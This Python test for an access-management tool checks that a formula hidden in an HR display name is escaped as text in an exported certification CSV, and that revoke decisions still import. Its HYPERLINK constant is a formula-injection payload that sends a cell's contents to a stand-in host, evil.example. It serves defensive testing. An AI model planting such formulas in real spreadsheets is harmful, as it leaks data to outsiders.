"""A hostile display name in HR reaches the certification CSV as text, and the file still imports."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import yaml

from iam.actor import os_user
from iam.csvsafe import FORMULA_STARTS
from tests.conftest import Directory, run_iam
from tests.support.company import BASE_FEED, NOW, groups_of, person, sync, write_feed

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


def test_a_formula_in_a_display_name_is_written_as_text_and_the_decisions_still_apply(
    company: Path, directory: Directory, tmp_path: Path
) -> None:
    conn = directory.slapd.admin()
    for dn in (directory.alice, directory.bob):
        assert conn.delete(dn), conn.result
    rows = [*BASE_FEED, person("E8", "zed", "Finance", manager="ann", given_name=HYPERLINK, family_name="@x")]
    result, _ = sync(company, write_feed(tmp_path / "feed.csv", rows))
    assert result.returncode == 0, result.stderr + result.stdout
    export = run_iam(
        "--config", str(company), "review", "certify", "--manager", "ann",
        "--out", str(tmp_path), "--now", NOW, "--format", "json",
    )  # fmt: skip
    assert export.returncode == 0, export.stderr
    csv_path = Path(json.loads(export.stdout)["files"][0])

    text = csv_path.read_text()
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert f"'{HYPERLINK} @x" in cells

    decided = list(csv.DictReader(text.splitlines()))
    for row in decided:
        row["decision"] = "revoke" if row["username"] == "zed" and "finance" in row["entitlement"] else "keep"
    with csv_path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, decided[0].keys())
        writer.writeheader()
        writer.writerows(decided)
    config = yaml.safe_load(company.read_text())
    config.setdefault("review", {})["delegates"] = {"ann": [os_user()]}
    company.write_text(yaml.safe_dump(config))
    imported = run_iam("--config", str(company), "review", "certify", "--import", str(csv_path))
    assert imported.returncode == 0, imported.stderr + imported.stdout
    assert "finance" not in groups_of(directory, "zed") and "staff" in groups_of(directory, "zed")
